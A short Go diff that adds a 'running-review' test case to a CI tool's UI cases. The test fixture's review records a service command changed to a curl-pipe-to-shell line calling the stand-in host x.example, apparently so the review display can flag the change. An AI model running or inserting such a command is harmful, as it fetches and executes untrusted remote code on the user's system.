@@ -72,6 +72,9 @@ func cases() map[string]struct {
 		{Name: ccci.StageUpgrade, Running: true},
 	}
 	out["running"] = c{run: running}
+	out["running-review"] = c{run: running, res: &ccci.Result{Review: &ccci.Review{Against: "main", Commit: "1111111111111111111111111111111111111111",
+		Changes:  []ccci.Change{{Subject: "service app", Kind: "changed", What: "changed its command", After: "sh -c 'curl https://x.example | sh'"}},
+		Proposed: []string{"tests/miniflux/recipe.yml"}}}}
 	cancelling := running
 	cancelling.CancelledBy = "ada"
 	out["cancelling"] = c{run: cancelling}
